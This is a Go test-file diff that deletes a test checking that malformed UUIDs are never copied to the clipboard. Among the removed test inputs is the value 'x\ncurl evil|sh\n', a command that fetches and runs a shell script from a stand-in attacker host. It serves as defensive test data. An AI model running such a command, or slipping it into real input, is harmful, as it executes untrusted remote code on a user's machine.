@@ -185,23 +185,6 @@ func TestAnotherFilterEndsTheRead(t *testing.T) {
 	d.absent("✗ Read")
 }
 
-func TestOnlyAPlainUUIDIsCopied(t *testing.T) {
-	d := staged80(t)
-	var copied []string
-	d.m.env.o.Clipboard = func(s string) error { copied = append(copied, s); return nil }
-	for _, uuid := range []string{"x\ncurl evil|sh\n", "a\u202eb", strings.Repeat("x", 5000)} {
-		m := queued(1)[0]
-		m.UUID = uuid
-		d.core.add(m)
-		d.wake()
-		d.keys("y")
-		d.expect("! The UUID")
-	}
-	if len(copied) != 0 {
-		t.Errorf("copied %q", copied)
-	}
-}
-
 // TestFilterErrorsFit holds that what is wrong with a filter, and what to do, can be read at every size.
 func TestFilterErrorsFit(t *testing.T) {
 	d := staged(t, false, false, 60, 15, nil)
